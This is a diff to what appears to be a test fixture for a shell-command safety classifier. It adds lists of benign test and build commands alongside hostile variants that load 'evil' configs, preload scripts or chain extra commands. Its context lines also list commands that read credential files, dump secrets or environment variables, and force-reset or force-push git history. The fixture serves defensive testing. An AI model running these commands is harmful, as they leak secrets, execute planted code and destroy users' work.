@@ -100,11 +100,24 @@ npm run build --workspace=../x|pnpm test --dir ../x|yarn test --cwd ../x|yarn ru
 pip show -f --trusted-host x evil|pip freeze --find-links http://e.example|gem list --remote --source http://e.example
 bundle list --format json --gemfile=../x|composer show --working-dir=../x|cat .env.production|less ~/.aws/credentials|grep -r password .
 find / -name id_rsa|docker inspect web|kubectl get secret db -o yaml|git config --list|git stash show -p|git log -p -- .env
+./npm test|bin/yarn run test|src/pnpm test|bin/go test ./...|bin/make test|bin/jest|bin/cargo test|npx tsc -p evil.json|tsc -b evil
+npm run typecheck -- -p evil.json|mocha evil.js|ava evil.js|node --test evil.js|vitest watch|vitest init src|pytest evil.py
+python -m unittest evil|python -m unittest discover -s src -p evil.py|tox -e evil|nox -s evil|mvn evil:check|mvn verify:evil|mvn test:evil
+sbt test:run|sbt compile:run|sbt test:runMain|gradle test:run|gradle build:evil|gradle lint:exec|dotnet test evil.dll|dotnet build evil.xml
+zig build evil|ninja -C evil|cmake --build evil|ctest --test-dir evil|meson test -C evil|bats evil.sh|busted evil.lua|rspec evil.rb
+phpunit evil.php|dart test evil.dart|flutter test evil.dart|mix test evil.exs|rails test evil.rb|bun test evil.js|deno test evil.js
 git show HEAD:config/master.key|git diff --output=.vscode/tasks.json|git apply evil.patch|git checkout -- src|git clean -fdx
 git reset --hard|git push --force|gh secret list|aws sts get-caller-identity|ps auxe|cat /proc/self/environ|lsof -i|history|crontab -l
 journalctl -u shop`;
 
 const starting = `
+rspec -f evil|pytest -vp evil|tox -c evil.ini|bun test --preload evil.ts|deno test --import-map=evil.json|pylint -f evil.Reporter src
+dotnet build @evil.txt|dotnet test -a evil|dotnet test evil.dll|cargo test --manifest-path evil.toml|go test evil.example/x@latest
+go build -overlay evil.json .|ktlint -R evil.jar src|cppcheck --addon=evil.py src|busted --helper=evil.lua|phpcs --standard=evil src
+cabal test --test-wrapper=evil|zig test --test-cmd evil a.zig|swift build -Xswiftc evil|git rebase -x evil|git -C evil log|prove -e evil
+git config core.pager evil|npm config set script-shell evil|gh alias set x evil|helm plugin install evil|npm run lint -- -f evil
+NODE_OPTIONS=--require=./evil.js npm test|npm test && evil|npm test; evil|python -mevil|csi evil.csx|jbang evil.java
+pre-commit run evil|vstest.console evil.dll|cmake -C evil.cmake .|xcrun evil|composer evil|zig build evil|sftp -b evil h|mypy @evil.txt
 python -m http.server|python3 -m evil|py -m evil|pypy3 -m evil|node -r ./evil.js a.js|ruby -r ./evil a.rb|perl -MEvil a.pl
 mocha -r ./evil.js|mocha --require evil|mocha -u ./evil|eslint -f ./evil.js .|eslint -f evil .|systemd-run ./evil|systemd-run --user evil
 watchexec evil|watchexec -e ts -- npm test|entr evil|strip --plugin evil.so a.o|ar --plugin ./evil.so a|ld -plugin evil.so
@@ -148,7 +161,9 @@ gradle test --tests OrderTest|dotnet test|dotnet build -c Release|dotnet test --
 bundle exec rspec|bundle exec rspec spec/a_spec.rb|rspec spec/a_spec.rb:12|bundle exec rubocop -a|bin/rails test|rake test
 vendor/bin/phpunit|vendor/bin/phpunit --filter Adds tests/ATest.php|composer validate --strict|vendor/bin/phpstan analyse --level=8 src
 php -l a.php|vendor/bin/pint --test|make test|make lint -j4|cmake --build build|ctest --test-dir build --output-on-failure|ninja -C build
-clang-format --dry-run --Werror a.c|swift test|swift build|mix test|mix format --check-formatted|dart analyze|flutter test`;
+clang-format --dry-run --Werror a.c|swift test|swift build|mix test|mix format --check-formatted|dart analyze|flutter test
+npx biome ci .|go test -bench=. ./...|cargo nextest run|mvn spotless:check|./gradlew :app:test|./gradlew ktlintCheck detekt
+dotnet test tests/App.Tests/App.Tests.csproj|dotnet build app.sln|bin/rspec|tox -e py311,lint|nox -s tests|meson test -C build|zig build test`;
 
 const folder = {
   scripts: { test: 'vitest run', build: 'tsc -b', lint: 'eslint .', typecheck: 'tsc --noEmit', evil: 'node evil.js' },
